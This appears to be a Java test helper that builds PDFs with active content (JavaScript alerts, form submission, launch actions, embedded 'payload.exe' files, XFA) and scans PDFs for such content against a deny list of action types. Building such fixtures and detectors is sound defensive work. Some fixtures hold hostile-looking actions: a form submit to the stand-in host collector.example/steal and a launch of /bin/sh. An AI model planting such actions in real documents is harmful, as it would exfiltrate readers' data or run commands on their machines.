package org.reap.render.packet;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.openpdf.text.Document;
import org.openpdf.text.PageSize;
import org.openpdf.text.Paragraph;
import org.openpdf.text.Rectangle;
import org.openpdf.text.pdf.PdfAction;
import org.openpdf.text.pdf.PdfAnnotation;
import org.openpdf.text.pdf.PdfDictionary;
import org.openpdf.text.pdf.PdfFormField;
import org.openpdf.text.pdf.PdfName;
import org.openpdf.text.pdf.PdfObject;
import org.openpdf.text.pdf.PdfReader;
import org.openpdf.text.pdf.PdfStream;
import org.openpdf.text.pdf.PdfString;
import org.openpdf.text.pdf.PdfWriter;

/**
 * PDFs made in the test with OpenPDF that carry active content a packet must not pass on, one
 * feature each (or all of them), and a scan of a PDF for any of it.
 */
public final class HostilePdfs {
  private HostilePdfs() {}

  /** One kind of active content. */
  public enum Feature {
    PAGE_OPEN_JAVASCRIPT,
    JAVASCRIPT_LINK,
    SUBMIT_FORM,
    LAUNCH,
    IMPORT_DATA,
    GOTO_REMOTE,
    GOTO_EMBEDDED,
    RENDITION,
    SOUND_ACTION,
    MOVIE_ACTION,
    RICH_MEDIA_ACTION,
    DATA_URI_LINK,
    JAVASCRIPT_IN_NEXT,
    FIELD_JAVASCRIPT,
    FILE_ATTACHMENT,
    EMBEDDED_FILES,
    XFA,
    DOCUMENT_OPEN_JAVASCRIPT,
    ANNOTATION_ADDITIONAL_ACTIONS,
    RICH_MEDIA_ANNOTATION
  }

  /**
   * A one-page PDF with the text "Hostile attachment", a plain web link, and the given features.
   */
  public static byte[] with(Set<Feature> features) {
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      Document doc = new Document(PageSize.LETTER);
      PdfWriter w = PdfWriter.getInstance(doc, out);
      doc.open();
      if (features.contains(Feature.PAGE_OPEN_JAVASCRIPT)) {
        w.setPageAction(PdfWriter.PAGE_OPEN, PdfAction.javaScript("app.alert('page-open');", w));
      }
      doc.add(new Paragraph("Hostile attachment"));
      // kept: a plain link to a web page
      w.addAnnotation(
          PdfAnnotation.createLink(
              w,
              new Rectangle(72, 600, 200, 620),
              PdfAnnotation.HIGHLIGHT_INVERT,
              new PdfAction("https://example.org/kept")));
      float y = 560;
      for (Feature f : features) {
        Rectangle r = new Rectangle(72, y, 200, y + 20);
        y -= 24;
        switch (f) {
          case JAVASCRIPT_LINK ->
              w.addAnnotation(link(w, r, PdfAction.javaScript("app.alert('link');", w)));
          case SUBMIT_FORM ->
              w.addAnnotation(
                  link(
                      w,
                      r,
                      PdfAction.createSubmitForm(
                          "https://collector.example/steal", null, PdfAction.SUBMIT_HTML_FORMAT)));
          case LAUNCH ->
              w.addAnnotation(link(w, r, PdfAction.createLaunch("/bin/sh", null, "open", null)));
          case IMPORT_DATA -> w.addAnnotation(link(w, r, PdfAction.createImportData("data.fdf")));
          case GOTO_REMOTE ->
              w.addAnnotation(
                  link(w, r, PdfAction.gotoRemotePage("other.pdf", "dest", false, true)));
          case GOTO_EMBEDDED -> w.addAnnotation(link(w, r, typed("GoToE")));
          case RENDITION -> w.addAnnotation(link(w, r, typed("Rendition")));
          case SOUND_ACTION -> w.addAnnotation(link(w, r, typed("Sound")));
          case MOVIE_ACTION -> w.addAnnotation(link(w, r, typed("Movie")));
          case RICH_MEDIA_ACTION -> w.addAnnotation(link(w, r, typed("RichMediaExecute")));
          case DATA_URI_LINK ->
              w.addAnnotation(
                  link(
                      w,
                      r,
                      new PdfAction("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")));
          case JAVASCRIPT_IN_NEXT -> {
            PdfAction go = new PdfAction("https://example.org/next");
            go.next(PdfAction.javaScript("app.alert('next');", w));
            w.addAnnotation(link(w, r, go));
          }
          case FIELD_JAVASCRIPT -> {
            PdfFormField field = PdfFormField.createTextField(w, false, false, 40);
            field.setFieldName("amount");
            field.setWidget(r, PdfAnnotation.HIGHLIGHT_INVERT);
            field.setAdditionalActions(
                PdfName.K, PdfAction.javaScript("event.rc = true; app.alert('keystroke');", w));
            field.setAdditionalActions(PdfName.C, PdfAction.javaScript("event.value = 1;", w));
            w.addAnnotation(field);
          }
          case FILE_ATTACHMENT ->
              w.addAnnotation(
                  PdfAnnotation.createFileAttachment(
                      w,
                      r,
                      "payload",
                      "MZ-payload".getBytes(StandardCharsets.US_ASCII),
                      null,
                      "payload.exe"));
          case EMBEDDED_FILES ->
              w.addFileAttachment(
                  "payload", "MZ-payload".getBytes(StandardCharsets.US_ASCII), null, "payload.exe");
          case XFA -> {
            PdfFormField field = PdfFormField.createTextField(w, false, false, 40);
            field.setFieldName("xfa-field");
            field.setWidget(r, PdfAnnotation.HIGHLIGHT_INVERT);
            w.addAnnotation(field);
            w.getAcroForm()
                .put(
                    new PdfName("XFA"),
                    w.addToBody(
                            new PdfStream(
                                "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>app.alert(1)</script></xdp:xdp>"
                                    .getBytes(StandardCharsets.UTF_8)))
                        .getIndirectReference());
          }
          case DOCUMENT_OPEN_JAVASCRIPT -> {
            w.setOpenAction(PdfAction.javaScript("app.alert('open');", w));
            w.addJavaScript("app.alert('name-tree');");
            w.setAdditionalAction(
                PdfWriter.DOCUMENT_CLOSE, PdfAction.javaScript("app.alert('close');", w));
          }
          case ANNOTATION_ADDITIONAL_ACTIONS -> {
            PdfAnnotation a =
                PdfAnnotation.createLink(
                    w,
                    r,
                    PdfAnnotation.HIGHLIGHT_INVERT,
                    new PdfAction("https://example.org/hover"));
            PdfDictionary aa = new PdfDictionary();
            aa.put(new PdfName("E"), PdfAction.javaScript("app.alert('enter');", w));
            a.put(PdfName.AA, aa);
            w.addAnnotation(a);
          }
          case RICH_MEDIA_ANNOTATION -> {
            PdfAnnotation a = new PdfAnnotation(w, r);
            a.put(PdfName.SUBTYPE, new PdfName("RichMedia"));
            PdfDictionary content = new PdfDictionary();
            content.put(new PdfName("Assets"), new PdfDictionary());
            a.put(new PdfName("RichMediaContent"), content);
            w.addAnnotation(a);
          }
          case PAGE_OPEN_JAVASCRIPT -> {
            // set above, before the page began
          }
        }
      }
      doc.close();
      return out.toByteArray();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  /** A dictionary and the dictionaries written inside it (not those it refers to). */
  private static void direct(PdfObject o, List<PdfDictionary> into, int depth) {
    if (depth > 50) {
      return;
    }
    if (o instanceof PdfDictionary d) {
      into.add(d);
      for (PdfName k : d.getKeys()) {
        direct(d.get(k), into, depth + 1);
      }
    } else if (o instanceof org.openpdf.text.pdf.PdfArray a) {
      for (PdfObject e : a.getElements()) {
        direct(e, into, depth + 1);
      }
    }
  }

  private static PdfAnnotation link(PdfWriter w, Rectangle r, PdfAction a) {
    return PdfAnnotation.createLink(w, r, PdfAnnotation.HIGHLIGHT_INVERT, a);
  }

  /**
   * An action of a type OpenPDF has no factory for (its other keys do not matter: the type alone
   * makes it refused).
   */
  private static PdfAction typed(String type) {
    PdfAction a = new PdfAction();
    a.put(PdfName.S, new PdfName(type));
    return a;
  }

  /**
   * Every action type but GoTo and URI (ISO 32000-1 table 198, and RichMediaExecute). No structure
   * type has these names.
   */
  private static final Set<String> REFUSED_ACTIONS =
      Set.of(
          "GoToR",
          "GoToE",
          "Launch",
          "Thread",
          "Sound",
          "Movie",
          "Hide",
          "Named",
          "SubmitForm",
          "ResetForm",
          "ImportData",
          "JavaScript",
          "SetOCGState",
          "Rendition",
          "Trans",
          "GoTo3DView",
          "RichMediaExecute");

  private static final Set<String> MEDIA_ANNOTATIONS =
      Set.of("FileAttachment", "Sound", "Movie", "Screen", "RichMedia", "3D");

  /**
   * Every piece of active content in a PDF, as text ("JavaScript action in object 12"): each object
   * of the file is looked at, so content reachable in any way (pages, structure tree, catalog)
   * counts.
   */
  public static List<String> activeContent(byte[] pdf) {
    List<String> found = new ArrayList<>();
    try {
      PdfReader r = new PdfReader(pdf);
      PdfDictionary catalog = r.getCatalog();
      if (catalog.get(PdfName.OPENACTION) instanceof PdfObject o
          && PdfReader.getPdfObject(o) instanceof PdfDictionary) {
        found.add("document open action");
      }
      for (int i = 1; i < r.getXrefSize(); i++) {
        List<PdfDictionary> dicts = new ArrayList<>();
        direct(r.getPdfObject(i), dicts, 0);
        for (PdfDictionary d : dicts) {
          if (d.get(PdfName.AA) != null) {
            found.add("additional actions in object " + i);
          }
          if (d.get(PdfName.JS) != null) {
            found.add("JavaScript in object " + i);
          }
          if (d.get(new PdfName("XFA")) != null) {
            found.add("XFA in object " + i);
          }
          if (d.get(PdfName.EF) != null || PdfName.EMBEDDEDFILE.equals(d.getAsName(PdfName.TYPE))) {
            found.add("embedded file in object " + i);
          }
          if (d.get(new PdfName("EmbeddedFiles")) != null
              || d.get(new PdfName("JavaScript")) != null) {
            found.add("names tree of files or scripts in object " + i);
          }
          PdfName subtype = d.getAsName(PdfName.SUBTYPE);
          if (subtype != null
              && d.get(PdfName.RECT) != null
              && MEDIA_ANNOTATIONS.contains(PdfName.decodeName(subtype.toString()))) {
            found.add(PdfName.decodeName(subtype.toString()) + " annotation in object " + i);
          }
          PdfName s = d.getAsName(PdfName.S);
          if (s != null && REFUSED_ACTIONS.contains(PdfName.decodeName(s.toString()))) {
            found.add(PdfName.decodeName(s.toString()) + " action in object " + i);
          }
          if (s != null
              && "URI".equals(PdfName.decodeName(s.toString()))
              && d.get(PdfName.URI) instanceof PdfObject u
              && PdfReader.getPdfObject(u) instanceof PdfString uri
              && !uri.toString().matches("(?i)(https?|mailto):.*|[^:/?#]+([/?#].*)?")) {
            found.add("URI action to " + uri + " in object " + i);
          }
        }
      }
      r.close();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
    return found;
  }
}
